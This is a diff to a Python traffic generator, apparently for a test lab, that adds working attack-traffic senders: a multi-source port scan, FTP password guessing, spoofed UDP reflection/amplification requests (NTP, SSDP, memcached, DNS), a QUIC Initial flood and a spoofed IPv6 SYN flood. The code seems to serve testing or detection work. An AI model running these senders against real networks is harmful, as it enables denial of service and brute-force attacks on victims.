@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Frames that no packaged tool sends in a bounded way: DHCP clients, bridges, neighbours, routers, a crowd of browsers.
+"""Frames that no packaged tool sends in a bounded way: DHCP clients, bridges, neighbours, routers, crowds, forged requests.
 
 usage: senders.py KIND [ARGUMENT...]
 """
@@ -80,21 +80,104 @@ def router(count, pause):
         time.sleep(float(pause))
 
 
+def connect_as(n, host, port, wait=True):
+    """A connection of one of the attacker's crowd (10.66.3.0/24)."""
+    s = socket.socket()
+    s.bind(("10.66.3.%d" % (1 + n % 200), 0))
+    s.settimeout(2)
+    s.setblocking(wait)
+    s.connect_ex((host, port))
+    return s
+
+
 def crowd(host, count, pause):
-    """One page, asked for by many clients (10.66.3.0/24), a connection each."""
+    """One page, asked for by many clients, a connection each."""
     request = b"GET /index.html HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n"
     waiting = []
     for i in range(int(count)):
-        s = socket.socket()
-        s.bind(("10.66.3.%d" % (1 + i % 200), 0))
-        s.settimeout(2)
-        s.connect((host, 80))
-        s.send(request)
-        waiting.append(s)
+        waiting.append(connect_as(i, host, 80))
+        waiting[-1].send(request)
         time.sleep(float(pause))
     for s in waiting:
         s.close()
 
 
-KINDS = {f.__name__: f for f in (dhcp_clients, bridges, neighbours, router, crowd)}
+def scanning_crowd(host, count, pause):
+    """A port each, of many hosts."""
+    for i in range(int(count)):
+        connect_as(i, host, 1000 + i, wait=False).close()
+        time.sleep(float(pause))
+
+
+def guessing_crowd(host, count, pause):
+    """A wrong password each, of many hosts (FTP)."""
+    for i in range(int(count)):
+        with connect_as(i % 25, host, 21) as s:
+            for line in (b"USER admin\r\n", b"PASS wrong-%d\r\n" % i, b"QUIT\r\n"):
+                s.recv(200)
+                s.send(line)
+            s.recv(200)
+        time.sleep(float(pause))
+
+
+def udp4(src, dst, sport, dport, data):
+    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
+    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
+    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp
+
+
+def question(name, kind):
+    """A DNS query that takes answers of 4096 bytes (RFC 1035, RFC 6891)."""
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\1" + labels + struct.pack("!BHH", 0, kind, 1) + b"\0\0\x29\x10\0\0\0\0\0\0\0"
+
+
+REQUESTS = {123: b"\x17\0\x03\x2a" + b"\0" * 4, 1900: b"M-SEARCH * HTTP/1.1\r\nST: upnp:rootdevice\r\n\r\n",
+            11211: b"\0\0\0\0\0\x01\0\0get big\r\n"}
+
+
+def forged_requests(victim, port, count, pause):
+    """Requests in the victim's name to the site's remote hosts, as whoever reflects sends them."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for i in range(int(count)):
+        host = "203.0.113.%d" % (1 + i % 20)
+        data = REQUESTS.get(int(port)) or question("big.test", 16)
+        raw.sendto(udp4(victim, host, 20000 + i % 5000, int(port), data), (host, 0))
+        time.sleep(float(pause))
+
+
+def quic_initials(host, count, pause):
+    """First packets of QUIC connections (RFC 9000 section 17.2.2) that nobody goes on with."""
+    for _ in range(int(count)):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"\xc3\0\0\0\x01\x08" + os.urandom(8) + b"\0\0\x44\xa0" + b"\0" * 1184, (host, 443))
+        time.sleep(float(pause))
+
+
+def syns_ipv6(host, count, pause):
+    """Connections begun by random hosts."""
+    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dst = socket.inet_pton(socket.AF_INET6, host)
+    for _ in range(int(count)):
+        src = b"\x20\x01\x0d\xb8" + os.urandom(12)
+        tcp = os.urandom(2) + struct.pack("!HIIBBHHH", 80, 1, 0, 5 << 4, 2, 8192, 0, 0)
+        total = checksum(src + dst + struct.pack("!II", len(tcp), 6) + tcp)
+        tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
+        raw.sendto(struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst + tcp, (host, 0))
+        time.sleep(float(pause))
+
+
+def lookups_in_gre(src, dst, count, pause):
+    """DNS queries of five hosts in a GRE tunnel (RFC 2784)."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
+    raw.bind((src, 0))
+    for i in range(int(count)):
+        inner = udp4("10.66.4.%d" % (1 + i % 5), "203.0.113.53", 30000 + i, 53, question("www%d.site.test" % i, 1))
+        raw.sendto(b"\0\0\x08\0" + inner, (dst, 0))
+        time.sleep(float(pause))
+
+
+KINDS = {f.__name__: f for f in (dhcp_clients, bridges, neighbours, router, crowd, scanning_crowd, guessing_crowd,
+                                 forged_requests, quic_initials, syns_ipv6, lookups_in_gre)}
 KINDS[sys.argv[1]](*sys.argv[2:])
